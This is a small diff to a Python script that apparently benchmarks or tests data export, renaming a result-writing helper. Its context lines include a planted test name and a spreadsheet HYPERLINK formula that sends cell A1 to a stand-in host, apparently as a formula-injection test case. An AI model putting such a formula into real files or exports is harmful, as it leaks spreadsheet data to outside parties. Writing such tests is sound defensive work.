@@ -21,7 +21,7 @@ import time
 from pathlib import Path
 
 sys.path.insert(0, str(Path(__file__).resolve().parent))
-from bench_io import write_record  # noqa: E402
+from bench_io import write_cases  # noqa: E402
 
 NAME = "Nguyen Van Planted"
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
@@ -147,8 +147,7 @@ def main(argv=None) -> int:
             print(json.dumps(rec), flush=True)
             shutil.rmtree(r, ignore_errors=True)
     if a.json:
-        write_record(Path(a.json), {"cases": len(results), "load_start_end": [load0, os.getloadavg()[0]],
-                                    "results": results})
+        write_cases(a.json, results, load0)
     return 0
 
 
